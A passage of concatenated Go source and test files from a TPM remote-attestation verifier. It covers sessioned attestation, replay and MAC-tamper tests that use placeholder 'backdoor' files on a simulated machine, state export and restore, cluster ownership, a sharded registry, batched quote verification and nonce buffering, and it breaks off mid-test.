	v := verifier.New(s.regSrv.URL, sessionOpts(1000)...)
	defer v.Close()
	if err := v.AddAgent(s.m.UUID(), proxy.srv.URL, policyFromMachine(t, s.m)); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}

	// Capture a cleanly authenticated session frame off the wire.
	var captured []byte
	proxy.setTamper(func(req, rsp []byte) []byte {
		if round, err := api.DecodeBinaryRound(rsp); err == nil && round.Kind == api.FrameSessionResponse {
			captured = append([]byte(nil), rsp...)
		}
		return rsp
	})
	if res, err := v.AttestOnce(context.Background(), s.m.UUID()); err != nil || res.Failure != nil {
		t.Fatalf("establishing round: res=%+v err=%v", res, err)
	}
	if res, err := v.AttestOnce(context.Background(), s.m.UUID()); err != nil ||
		res.CheckLevel != verifier.CheckSession {
		t.Fatalf("steady round: res=%+v err=%v", res, err)
	}
	if captured == nil {
		t.Fatal("no session frame captured")
	}

	// Tamper the machine, then replay the stale frame at every session
	// request while letting full-quote requests through.
	writeExec(t, s.m, "/usr/bin/backdoor", "evil")
	exec(t, s.m, "/usr/bin/backdoor")
	replays := 0
	proxy.setTamper(func(req, rsp []byte) []byte {
		rr, err := api.DecodeRoundRequest(req)
		if err == nil && rr.Kind == api.FrameSessionRequest {
			replays++
			return captured
		}
		return rsp
	})
	res, err := v.AttestOnce(context.Background(), s.m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce under replay: %v", err)
	}
	if replays == 0 {
		t.Fatal("attack never engaged: no session request was replayed")
	}
	if res.Failure == nil || res.Failure.Path != "/usr/bin/backdoor" {
		t.Fatalf("Failure = %+v, want the tamper caught despite the replay", res.Failure)
	}
	if res.CheckLevel != verifier.CheckForcedFull {
		t.Fatalf("check level = %v, want full-forced", res.CheckLevel)
	}
}

func TestCorruptedSessionMACEscalatesWithoutFalseFailure(t *testing.T) {
	// The dual property: a corrupted session MAC on a CLEAN machine must
	// not produce a false integrity failure either — MAC trouble is an
	// escalation trigger, never a verdict.
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	exec(t, s.m, "/usr/bin/tool")

	proxy := newBinaryProxy(t, s.agSrv.URL)
	v := verifier.New(s.regSrv.URL, sessionOpts(1000)...)
	defer v.Close()
	if err := v.AddAgent(s.m.UUID(), proxy.srv.URL, policyFromMachine(t, s.m)); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	if res, err := v.AttestOnce(context.Background(), s.m.UUID()); err != nil || res.Failure != nil {
		t.Fatalf("establishing round: res=%+v err=%v", res, err)
	}

	proxy.setTamper(func(req, rsp []byte) []byte {
		if round, err := api.DecodeBinaryRound(rsp); err == nil && round.Kind == api.FrameSessionResponse {
			sr := round.Session
			sr.MAC[0] ^= 0xff
			return api.AppendSessionRound(nil, sr)
		}
		return rsp
	})
	res, err := v.AttestOnce(context.Background(), s.m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce with corrupted MAC: %v", err)
	}
	if res.Failure != nil {
		t.Fatalf("Failure = %+v, want none (escalation, not verdict)", res.Failure)
	}
	if res.CheckLevel != verifier.CheckForcedFull {
		t.Fatalf("check level = %v, want full-forced", res.CheckLevel)
	}
}

func TestSessionTTLForcesRotation(t *testing.T) {
	clk := simclock.NewSimulated(time.Unix(1700000000, 0))
	s := newStack(t, nil,
		verifier.WithSessionPolicy(1000, 10*time.Minute),
		verifier.WithClock(clk))
	defer s.v.Close()
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")

	attest(t, s)
	if res := attest(t, s); res.CheckLevel != verifier.CheckSession {
		t.Fatalf("pre-expiry check = %v", res.CheckLevel)
	}
	clk.Advance(11 * time.Minute)
	res := attest(t, s)
	if res.CheckLevel != verifier.CheckFull {
		t.Fatalf("post-expiry check = %v, want full (scheduled rotation)", res.CheckLevel)
	}
	if res := attest(t, s); res.CheckLevel != verifier.CheckSession {
		t.Fatalf("post-rotation check = %v, want session (re-keyed)", res.CheckLevel)
	}
}

func TestRestoredSessionNeverTrustedBlind(t *testing.T) {
	s := newStack(t, nil, sessionOpts(1000)...)
	defer s.v.Close()
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	attest(t, s)
	if res := attest(t, s); res.CheckLevel != verifier.CheckSession {
		t.Fatalf("steady round check = %v", res.CheckLevel)
	}

	snap, err := s.v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	v2 := verifier.New(s.regSrv.URL, sessionOpts(1000)...)
	defer v2.Close()
	if err := v2.RestoreState(snap); err != nil {
		t.Fatalf("RestoreState: %v", err)
	}
	st, err := v2.Status(s.m.UUID())
	if err != nil {
		t.Fatalf("Status: %v", err)
	}
	if !st.SessionActive {
		t.Fatal("restored verifier lost the session state")
	}

	// The restored verifier never verified the exchange that minted the
	// session: its first round must renegotiate via a full quote even
	// though the restored session would still MAC-verify.
	res, err := v2.AttestOnce(context.Background(), s.m.UUID())
	if err != nil {
		t.Fatalf("AttestOnce after restore: %v", err)
	}
	if res.CheckLevel != verifier.CheckForcedFull {
		t.Fatalf("first restored check = %v, want full-forced", res.CheckLevel)
	}
	if res, err := v2.AttestOnce(context.Background(), s.m.UUID()); err != nil ||
		res.CheckLevel != verifier.CheckSession {
		t.Fatalf("second restored round: res=%+v err=%v, want session", res, err)
	}
}

func TestJSONOnlyAgentFallsBack(t *testing.T) {
	// An agent without the binary endpoint (an old build, or one behind a
	// filtering proxy) keeps attesting over JSON: sessions simply never
	// engage for it, and no round is lost to the negotiation.
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	exec(t, s.m, "/usr/bin/tool")

	noBinary := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.URL.Path == api.AttestPath {
			http.NotFound(w, req)
			return
		}
		resp, err := http.Get(s.agSrv.URL + req.URL.String())
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer func() { _ = resp.Body.Close() }()
		w.WriteHeader(resp.StatusCode)
		_, _ = io.Copy(w, resp.Body)
	}))
	t.Cleanup(noBinary.Close)

	v := verifier.New(s.regSrv.URL, sessionOpts(4)...)
	defer v.Close()
	if err := v.AddAgent(s.m.UUID(), noBinary.URL, policyFromMachine(t, s.m)); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	for i := 0; i < 3; i++ {
		res, err := v.AttestOnce(context.Background(), s.m.UUID())
		if err != nil || res.Failure != nil {
			t.Fatalf("round %d: res=%+v err=%v", i+1, res, err)
		}
		if res.CheckLevel != verifier.CheckFull && res.CheckLevel != verifier.CheckForcedFull {
			t.Fatalf("round %d check = %v, want a full quote (JSON fallback)", i+1, res.CheckLevel)
		}
	}
	st, err := v.Status(s.m.UUID())
	if err != nil {
		t.Fatalf("Status: %v", err)
	}
	if st.SessionActive {
		t.Fatal("session active for a JSON-only agent")
	}
}

func TestAuditRecordsCheckLevel(t *testing.T) {
	auditLog := audit.NewLog()
	s := newStack(t, nil, sessionOpts(1000, verifier.WithAuditLog(auditLog))...)
	defer s.v.Close()
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	attest(t, s)
	attest(t, s)
	writeExec(t, s.m, "/usr/bin/backdoor", "evil")
	exec(t, s.m, "/usr/bin/backdoor")
	attest(t, s)

	records := auditLog.Records()
	if len(records) != 3 {
		t.Fatalf("audit records = %d, want 3", len(records))
	}
	want := []string{"full", "session", "full-forced"}
	for i, w := range want {
		if records[i].CheckLevel != w {
			t.Fatalf("record %d check level = %q, want %q", i, records[i].CheckLevel, w)
		}
	}
	if records[2].Outcome != audit.OutcomeFail {
		t.Fatalf("record 2 outcome = %v, want fail (escalation carried the verdict)", records[2].Outcome)
	}
	if err := audit.VerifyChain(records); err != nil {
		t.Fatalf("VerifyChain: %v", err)
	}
}

func TestPollStatsCountsCheckLevels(t *testing.T) {
	s := newStack(t, nil, sessionOpts(1000)...)
	defer s.v.Close()
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")

	ctx := context.Background()
	s.v.PollAll(ctx) // full (establish)
	s.v.PollAll(ctx) // session
	s.v.PollAll(ctx) // session
	writeExec(t, s.m, "/usr/bin/tool2", "x")
	exec(t, s.m, "/usr/bin/tool2") // out of policy -> forced upgrade + failure
	s.v.PollAll(ctx)

	srv := httptest.NewServer(s.v.ManagementHandler())
	t.Cleanup(srv.Close)
	var report verifier.PollStatsReport
	getJSON(t, srv.URL+"/v2/stats/poll", &report)
	if report.Sweeps != 4 {
		t.Fatalf("sweeps = %d, want 4", report.Sweeps)
	}
	c := report.Cumulative
	if c.SessionRounds != 2 || c.FullQuoteRounds != 2 || c.ForcedUpgrades != 1 {
		t.Fatalf("cumulative = session=%d full=%d forced=%d, want 2/2/1",
			c.SessionRounds, c.FullQuoteRounds, c.ForcedUpgrades)
	}
	if report.LastSweep.ForcedUpgrades != 1 || report.LastSweep.Failed != 1 {
		t.Fatalf("last sweep = %+v, want the forced failing round", report.LastSweep)
	}
}

// getJSON fetches a URL and decodes its JSON body.
func getJSON(t *testing.T, url string, out any) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: status %d", url, resp.StatusCode)
	}
	if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
		t.Fatalf("decoding %s: %v", url, err)
	}
}
