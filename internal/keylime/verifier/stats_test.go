package verifier_test

// Pins the GET /v2/stats contract: the index lists every registered
// provider sorted by name, each name resolves at /v2/stats/{name}, and
// unknown names are a clean 404 — the discovery surface operators (and
// the reconciler's own stats registration) rely on.

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"sort"
	"testing"
)

func TestStatsIndexListsRegisteredProviders(t *testing.T) {
	s := newStack(t, nil)
	s.v.RegisterStats("reconcile", func() any {
		return map[string]any{"managed": 7, "converged": true}
	})
	mgmtSrv := httptest.NewServer(s.v.ManagementHandler())
	defer mgmtSrv.Close()

	resp, err := http.Get(mgmtSrv.URL + "/v2/stats")
	if err != nil {
		t.Fatalf("GET /v2/stats: %v", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /v2/stats status = %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "application/json" {
		t.Fatalf("Content-Type = %q, want application/json", ct)
	}
	var index struct {
		Providers []string `json:"providers"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&index); err != nil {
		t.Fatalf("decode index: %v", err)
	}
	if !sort.StringsAreSorted(index.Providers) {
		t.Fatalf("providers not sorted: %v", index.Providers)
	}
	have := map[string]bool{}
	for _, p := range index.Providers {
		have[p] = true
	}
	for _, want := range []string{"poll", "reconcile"} {
		if !have[want] {
			t.Fatalf("provider %q missing from index %v", want, index.Providers)
		}
	}

	// Every indexed name must resolve.
	for _, p := range index.Providers {
		r, err := http.Get(mgmtSrv.URL + "/v2/stats/" + p)
		if err != nil {
			t.Fatalf("GET /v2/stats/%s: %v", p, err)
		}
		if r.StatusCode != http.StatusOK {
			t.Fatalf("GET /v2/stats/%s status = %d", p, r.StatusCode)
		}
		var payload any
		if err := json.NewDecoder(r.Body).Decode(&payload); err != nil {
			t.Fatalf("GET /v2/stats/%s: invalid JSON: %v", p, err)
		}
		_ = r.Body.Close()
	}

	// The registered provider's payload round-trips.
	r, err := http.Get(mgmtSrv.URL + "/v2/stats/reconcile")
	if err != nil {
		t.Fatalf("GET /v2/stats/reconcile: %v", err)
	}
	var rec map[string]any
	if err := json.NewDecoder(r.Body).Decode(&rec); err != nil {
		t.Fatalf("decode reconcile stats: %v", err)
	}
	_ = r.Body.Close()
	if rec["managed"] != float64(7) || rec["converged"] != true {
		t.Fatalf("reconcile stats = %v", rec)
	}

	// Unknown providers are a clean 404, not a panic or empty 200.
	r, err = http.Get(mgmtSrv.URL + "/v2/stats/no-such-provider")
	if err != nil {
		t.Fatalf("GET unknown provider: %v", err)
	}
	_ = r.Body.Close()
	if r.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown provider status = %d, want 404", r.StatusCode)
	}
}
