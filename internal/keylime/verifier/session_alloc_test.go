//go:build !race

package verifier_test

// Allocation ceiling for the steady-state session round (CI bench-smoke
// gate). The round's computational content — request encode, agent-side
// decode + MAC + response encode, verifier-side decode + MAC verify —
// must stay near-allocation-free: the whole point of sessioned
// attestation is that the per-round cost no longer scales with quote and
// log size. The ceiling is deliberately a small integer, not zero, so an
// incidental stdlib change does not flake the build; raising it beyond
// that needs a deliberate edit here.

import (
	"testing"

	"repro/internal/keylime/api"
)

// sessionRoundAllocCeiling is the checked-in ceiling for allocations per
// steady-state session round (wire + MAC, both ends, transport excluded).
const sessionRoundAllocCeiling = 2

func TestSessionRoundAllocCeiling(t *testing.T) {
	nonce, id, agentMAC, verifierMAC, composite := newSessionWireFixture(t)
	reqBuf := make([]byte, 0, api.MaxRequestFrame)
	rspBuf := make([]byte, 0, api.SessionRoundSize)
	allocs := testing.AllocsPerRun(200, func() {
		if _, err := sessionWireRound(reqBuf, rspBuf, nonce, id,
			agentMAC, verifierMAC, composite, 1234); err != nil {
			t.Fatal(err)
		}
	})
	if allocs > sessionRoundAllocCeiling {
		t.Fatalf("session round allocates %.1f/op, ceiling %d — the MAC fast path regressed",
			allocs, sessionRoundAllocCeiling)
	}
}
