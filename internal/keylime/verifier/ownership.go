package verifier

// Cluster ownership. In a multi-verifier cluster each agent has exactly
// one owning verifier at a time (the consistent-hash ring decides which);
// the cluster node installs an ownership predicate here and the verifier
// refuses rounds for agents it does not own. The predicate is consulted
// twice per round — at round entry, and again after the evidence fetch —
// mirroring the removed-mid-round check: ownership lost while evidence was
// in flight (a handoff froze and transferred the agent) must not produce
// an integrity verdict on the old owner, or the fleet would see two
// verifiers disagreeing about the same agent.

import (
	"errors"
	"fmt"
)

// ErrNotOwner rejects a round for an agent this verifier does not
// currently own; the owning replica will sweep it instead.
var ErrNotOwner = errors.New("verifier: agent owned by another cluster node")

// SetOwnership installs the cluster ownership predicate. nil (the
// default) owns everything — the single-verifier deployment. The
// predicate must be safe for concurrent use and fast: it runs on every
// round, inside no lock.
func (v *Verifier) SetOwnership(owns func(agentID string) bool) {
	v.ownsMu.Lock()
	v.ownsFn = owns
	v.ownsMu.Unlock()
}

// owns reports whether this verifier currently owns the agent.
func (v *Verifier) owns(agentID string) bool {
	v.ownsMu.RLock()
	fn := v.ownsFn
	v.ownsMu.RUnlock()
	return fn == nil || fn(agentID)
}

// checkOwned returns ErrNotOwner when the agent is not owned here.
func (v *Verifier) checkOwned(agentID string) error {
	if !v.owns(agentID) {
		return fmt.Errorf("%w: %s", ErrNotOwner, agentID)
	}
	return nil
}
