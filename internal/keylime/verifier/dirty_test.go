package verifier_test

// Tests for incremental state export (dirty-row tracking) and the lenient
// restore path — the verifier-side half of the crash-safe durability layer.

import (
	"context"
	"testing"

	"repro/internal/keylime/verifier"
	"repro/internal/policy"
)

func TestExportDirtyTracksMutations(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))

	// Enrollment marks the agent dirty.
	changed, removed, err := s.v.ExportDirty()
	if err != nil {
		t.Fatalf("ExportDirty: %v", err)
	}
	if len(changed) != 1 || changed[0].AgentID != s.m.UUID() || len(removed) != 0 {
		t.Fatalf("after enroll: changed=%v removed=%v", changed, removed)
	}

	// Draining is one-shot: no new mutation, nothing to export.
	changed, removed, err = s.v.ExportDirty()
	if err != nil {
		t.Fatalf("ExportDirty: %v", err)
	}
	if len(changed) != 0 || len(removed) != 0 {
		t.Fatalf("no mutations since drain: changed=%v removed=%v", changed, removed)
	}

	// A completed attestation round re-marks the agent, and the exported
	// row carries the advanced frontier.
	exec(t, s.m, "/usr/bin/tool")
	res := attest(t, s)
	if res.Failure != nil {
		t.Fatalf("attestation failed: %+v", res.Failure)
	}
	changed, _, err = s.v.ExportDirty()
	if err != nil {
		t.Fatalf("ExportDirty: %v", err)
	}
	if len(changed) != 1 || changed[0].Attestations != 1 {
		t.Fatalf("after round: changed=%+v", changed)
	}
	if changed[0].NextOffset == 0 {
		t.Fatal("exported row did not carry the advanced frontier")
	}

	// Removal surfaces as a removed ID so the persistence layer can delete
	// the row instead of leaving a ghost agent behind.
	if err := s.v.RemoveAgent(s.m.UUID()); err != nil {
		t.Fatalf("RemoveAgent: %v", err)
	}
	changed, removed, err = s.v.ExportDirty()
	if err != nil {
		t.Fatalf("ExportDirty: %v", err)
	}
	if len(changed) != 0 || len(removed) != 1 || removed[0] != s.m.UUID() {
		t.Fatalf("after removal: changed=%v removed=%v", changed, removed)
	}
}

func TestExportDirtyMarksFailureAndResume(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	if _, _, err := s.v.ExportDirty(); err != nil {
		t.Fatalf("drain: %v", err)
	}

	// A policy violation (failure path) marks the agent dirty.
	writeExec(t, s.m, "/usr/bin/rogue", "evil")
	exec(t, s.m, "/usr/bin/rogue")
	res := attest(t, s)
	if res.Failure == nil {
		t.Fatal("expected a policy violation")
	}
	changed, _, err := s.v.ExportDirty()
	if err != nil {
		t.Fatalf("ExportDirty: %v", err)
	}
	if len(changed) != 1 || !changed[0].Halted || len(changed[0].Failures) != 1 {
		t.Fatalf("after failure: changed=%+v", changed)
	}

	// Resume marks it again so the cleared halt is persisted too.
	if err := s.v.Resume(s.m.UUID()); err != nil {
		t.Fatalf("Resume: %v", err)
	}
	changed, _, err = s.v.ExportDirty()
	if err != nil {
		t.Fatalf("ExportDirty: %v", err)
	}
	if len(changed) != 1 || changed[0].Halted {
		t.Fatalf("after resume: changed=%+v", changed)
	}
}

func TestRestoreStateLenientSkipsCorruptRows(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	exec(t, s.m, "/usr/bin/tool")
	if res := attest(t, s); res.Failure != nil {
		t.Fatalf("baseline round: %+v", res.Failure)
	}
	snap, err := s.v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	good := snap.Agents[0]

	// A snapshot holding one intact row, one corrupt row, and a duplicate.
	mixed := verifier.Snapshot{Agents: []verifier.AgentState{
		{AgentID: "corrupt-ak", AKPub: "%%%", PrefixAggregate: "00"},
		good,
		good, // duplicate of the intact row
	}}

	// Strict restore aborts on the first bad row.
	if err := verifier.New(s.regSrv.URL).RestoreState(mixed); err == nil {
		t.Fatal("strict RestoreState accepted a corrupt row")
	}

	// Lenient restore keeps the intact row and reports the other two.
	v2 := verifier.New(s.regSrv.URL)
	skipped, err := v2.RestoreStateLenient(mixed)
	if err != nil {
		t.Fatalf("RestoreStateLenient: %v", err)
	}
	if len(skipped) != 2 {
		t.Fatalf("skipped = %v, want 2 rows", skipped)
	}
	if skipped[0].AgentID != "corrupt-ak" || skipped[1].AgentID != good.AgentID {
		t.Fatalf("skipped = %v", skipped)
	}
	st, err := v2.Status(good.AgentID)
	if err != nil {
		t.Fatalf("Status after lenient restore: %v", err)
	}
	if st.Attestations != 1 {
		t.Fatalf("restored status = %+v", st)
	}

	// The survivor resumes attestation from its persisted frontier.
	res, err := v2.AttestOnce(context.Background(), good.AgentID)
	if err != nil || res.Failure != nil {
		t.Fatalf("round after lenient restore = %+v, %v", res, err)
	}
}

func TestRestoreStateLenientRequiresEmptyVerifier(t *testing.T) {
	s := newStack(t, nil)
	addAgent(t, s, policy.New())
	snap, err := s.v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	if _, err := s.v.RestoreStateLenient(snap); err == nil {
		t.Fatal("lenient restore into non-empty verifier succeeded")
	}
}
