package verifier

// Sharded agent registry. The verifier used to guard the whole monitored-
// agent table (and every per-agent field) with one global sync.Mutex, so
// at fleet scale every status read, policy update, and attestation round
// serialized on a single lock. The registry stripes the table over
// shardCount shards keyed by an FNV-1a hash of the agent ID; each shard
// lock guards only its map, and all mutable per-agent state is guarded by
// the agent's own mutex (monitored.mu).
//
// Lock ordering (see also DESIGN.md §7 "Fleet-scale control plane"):
//
//	monitored.pollMu > monitored.mu
//
// A shard lock is never held together with an agent lock: lookups copy the
// *monitored pointer out under the shard lock and release it before any
// per-agent work, so map operations on one shard never wait on a slow
// agent and vice versa. No lock of any kind is held across network I/O or
// quote verification.

import (
	"hash/fnv"
	"sync"
)

// shardCount is the number of lock stripes. Power of two so the shard
// index is a mask; 64 stripes keep contention negligible at 10k agents
// while costing a few KB when only one agent is monitored.
const shardCount = 64

// registryShard is one lock stripe of the agent table.
type registryShard struct {
	mu     sync.RWMutex
	agents map[string]*monitored
}

// registry is the sharded monitored-agent table.
type registry struct {
	shards [shardCount]registryShard
}

// newRegistry returns an empty registry.
func newRegistry() *registry {
	r := &registry{}
	for i := range r.shards {
		r.shards[i].agents = make(map[string]*monitored)
	}
	return r
}

// shardIndex maps an agent ID to its shard.
func shardIndex(agentID string) int {
	h := fnv.New64a()
	_, _ = h.Write([]byte(agentID))
	return int(h.Sum64() & (shardCount - 1))
}

func (r *registry) shardFor(agentID string) *registryShard {
	return &r.shards[shardIndex(agentID)]
}

// get returns the monitored agent, if present.
func (r *registry) get(agentID string) (*monitored, bool) {
	s := r.shardFor(agentID)
	s.mu.RLock()
	a, ok := s.agents[agentID]
	s.mu.RUnlock()
	return a, ok
}

// insert adds the agent and reports whether the ID was free.
func (r *registry) insert(agentID string, a *monitored) bool {
	s := r.shardFor(agentID)
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, exists := s.agents[agentID]; exists {
		return false
	}
	s.agents[agentID] = a
	return true
}

// remove deletes and returns the agent, if present.
func (r *registry) remove(agentID string) (*monitored, bool) {
	s := r.shardFor(agentID)
	s.mu.Lock()
	defer s.mu.Unlock()
	a, ok := s.agents[agentID]
	if ok {
		delete(s.agents, agentID)
	}
	return a, ok
}

// len counts monitored agents across all shards.
func (r *registry) len() int {
	n := 0
	for i := range r.shards {
		s := &r.shards[i]
		s.mu.RLock()
		n += len(s.agents)
		s.mu.RUnlock()
	}
	return n
}

// ids snapshots the monitored agent IDs shard by shard. The snapshot is
// consistent per shard, not across the fleet: agents added or removed
// concurrently may or may not appear, which is exactly the contract a
// PollAll sweep needs.
func (r *registry) ids() []string {
	out := make([]string, 0, r.len())
	for i := range r.shards {
		s := &r.shards[i]
		s.mu.RLock()
		for id := range s.agents {
			out = append(out, id)
		}
		s.mu.RUnlock()
	}
	return out
}

// snapshot collects the monitored-agent pointers shard by shard. Each
// shard lock is held only long enough to copy its pointers, so a snapshot
// never stalls enrollment or removal on other shards mid-sweep; callers
// lock each agent individually afterwards.
func (r *registry) snapshot() []*monitored {
	out := make([]*monitored, 0, r.len())
	for i := range r.shards {
		s := &r.shards[i]
		s.mu.RLock()
		for _, a := range s.agents {
			out = append(out, a)
		}
		s.mu.RUnlock()
	}
	return out
}
