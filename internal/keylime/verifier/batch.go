package verifier

// Batched quote verification: PollAll's sweep workers are sized for
// network-bound rounds (4·GOMAXPROCS), so letting each of them run
// CPU-bound ECDSA inline oversubscribes the cores during a burst of
// full-quote rounds. Instead, sweep workers queue verifications to a
// dedicated pool sized to the core count; each crypto worker drains the
// queue in batches, verifying back to back with hot caches while the
// sweep workers go back to waiting on sockets. Session-MAC rounds never
// touch this path — that is the point of having them.

import (
	"crypto/ecdsa"
	"runtime"
	"sync"

	"repro/internal/tpm"
)

// verifyBatchMax bounds how many queued jobs one worker drains at once,
// so a burst cannot pin one worker while others idle.
const verifyBatchMax = 32

// verifyJob is one queued quote verification.
type verifyJob struct {
	key   *ecdsa.PublicKey
	quote *tpm.Quote
	nonce []byte

	pcrs map[int]tpm.Digest
	err  error
	done chan struct{}
}

// batchVerifier is the dedicated quote-verification pool.
type batchVerifier struct {
	jobs chan *verifyJob
	stop chan struct{}
	wg   sync.WaitGroup
}

func newBatchVerifier(workers int) *batchVerifier {
	b := &batchVerifier{
		jobs: make(chan *verifyJob, workers*verifyBatchMax),
		stop: make(chan struct{}),
	}
	b.wg.Add(workers)
	for i := 0; i < workers; i++ {
		go b.worker()
	}
	return b
}

func (b *batchVerifier) worker() {
	defer b.wg.Done()
	batch := make([]*verifyJob, 0, verifyBatchMax)
	for {
		select {
		case <-b.stop:
			return
		case j := <-b.jobs:
			batch = append(batch[:0], j)
			// Drain whatever else is already queued, up to the batch cap.
		drain:
			for len(batch) < verifyBatchMax {
				select {
				case j := <-b.jobs:
					batch = append(batch, j)
				default:
					break drain
				}
			}
			for _, j := range batch {
				j.pcrs, j.err = tpm.VerifyQuoteWithKey(j.key, *j.quote, j.nonce)
				close(j.done)
			}
		}
	}
}

// verify queues a quote verification and waits for the batch worker. If
// the pool is shut down (or shuts down mid-wait) it verifies inline —
// a double verification is wasted work, never a wrong answer.
func (b *batchVerifier) verify(key *ecdsa.PublicKey, quote *tpm.Quote, nonce []byte) (map[int]tpm.Digest, error) {
	j := &verifyJob{key: key, quote: quote, nonce: nonce, done: make(chan struct{})}
	select {
	case b.jobs <- j:
	case <-b.stop:
		return tpm.VerifyQuoteWithKey(key, *quote, nonce)
	}
	select {
	case <-j.done:
		return j.pcrs, j.err
	case <-b.stop:
		return tpm.VerifyQuoteWithKey(key, *quote, nonce)
	}
}

// close stops the workers; queued jobs are abandoned (their callers fall
// back to inline verification via the stop channel).
func (b *batchVerifier) close() {
	close(b.stop)
	b.wg.Wait()
}

// Close releases the verifier's background resources (the batch-verify
// pool). Safe to call more than once; rounds in flight fall back to
// inline verification.
func (v *Verifier) Close() {
	v.closeOnce.Do(func() {
		v.batchOnce.Do(func() {}) // no pool may be created after Close
		if v.batch != nil {
			v.batch.close()
		}
	})
}

// batchPool returns the shared verification pool, creating it on first
// use; nil when batching is disabled (batchWorkers < 0).
func (v *Verifier) batchPool() *batchVerifier {
	if v.batchWorkers < 0 {
		return nil
	}
	v.batchOnce.Do(func() {
		n := v.batchWorkers
		if n == 0 {
			n = runtime.GOMAXPROCS(0)
		}
		v.batch = newBatchVerifier(n)
	})
	return v.batch
}

// verifyQuote verifies a full quote against the agent's AK, through the
// batch pool when one is available.
func (v *Verifier) verifyQuote(a *monitored, quote *tpm.Quote, nonce []byte) (map[int]tpm.Digest, error) {
	if a.akKey == nil {
		return tpm.VerifyQuote(a.akPub, *quote, nonce)
	}
	if b := v.batchPool(); b != nil {
		return b.verify(a.akKey, quote, nonce)
	}
	return tpm.VerifyQuoteWithKey(a.akKey, *quote, nonce)
}
