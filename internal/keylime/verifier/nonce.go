package verifier

// Buffered nonce generation. Every attestation round draws a fresh 20-byte
// anti-replay nonce; reading each one straight from crypto/rand costs a
// syscall (getrandom) per round, which at fleet scale turns the kernel RNG
// into a shared hot path. nonceSource amortizes it: workers draw from
// pooled buffers refilled from the underlying reader a kilobyte at a time,
// so a 10k-agent sweep makes ~64 RNG reads instead of 10k. The pool hands
// each buffer to exactly one goroutine at a time, so no lock is held while
// nonces are copied out.

import (
	"io"
	"sync"
)

// nonceSize is the anti-replay nonce length (matches Keylime's 20-byte
// nonces).
const nonceSize = 20

// nonceBatch is how many nonces one buffer refill yields.
const nonceBatch = 64

type nonceBuf struct {
	buf [nonceSize * nonceBatch]byte
	off int
}

// nonceSource yields nonces from pooled buffers over rng.
type nonceSource struct {
	rng  io.Reader
	pool sync.Pool
}

func newNonceSource(rng io.Reader) *nonceSource {
	return &nonceSource{rng: rng}
}

// next fills dst (len ≤ nonceSize·nonceBatch) with fresh random bytes.
func (s *nonceSource) next(dst []byte) error {
	b, _ := s.pool.Get().(*nonceBuf)
	if b == nil {
		b = &nonceBuf{off: len(nonceBuf{}.buf)}
	}
	if b.off+len(dst) > len(b.buf) {
		if _, err := io.ReadFull(s.rng, b.buf[:]); err != nil {
			return err
		}
		b.off = 0
	}
	copy(dst, b.buf[b.off:b.off+len(dst)])
	b.off += len(dst)
	s.pool.Put(b)
	return nil
}
