package verifier_test

// Tests for the rollout-facing verifier surface: shadow policy slots,
// policy generations, the signed-update error paths the rollout pipeline
// leans on (unsigned, tampered, stale-signature), concurrent policy
// updates racing live attestation sweeps, and a fuzz target proving the
// management policy endpoint never panics on malformed JSON.

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"
	"time"

	"repro/internal/keylime/verifier"
	"repro/internal/policy"
)

func TestShadowPolicyRecordsDivergenceWithoutAlerting(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "v1")
	addAgent(t, s, policyFromMachine(t, s.m))

	// Candidate is missing /usr/bin/tool — the §III-C shape: a policy
	// generated from a stale mirror that never saw the running binary.
	incomplete := policyFromMachine(t, s.m)
	incomplete.Remove("/usr/bin/tool")
	if err := s.v.SetShadowPolicy(s.m.UUID(), 7, incomplete); err != nil {
		t.Fatalf("SetShadowPolicy: %v", err)
	}

	exec(t, s.m, "/usr/bin/tool")
	res := attest(t, s)
	// The active policy still passes: shadow divergence must NOT alert.
	if res.Failure != nil {
		t.Fatalf("shadow divergence raised a real failure: %+v", res.Failure)
	}
	if res.ShadowWouldFail == 0 {
		t.Fatal("would-fail divergence not surfaced in the attestation result")
	}
	ss, err := s.v.ShadowStatus(s.m.UUID())
	if err != nil {
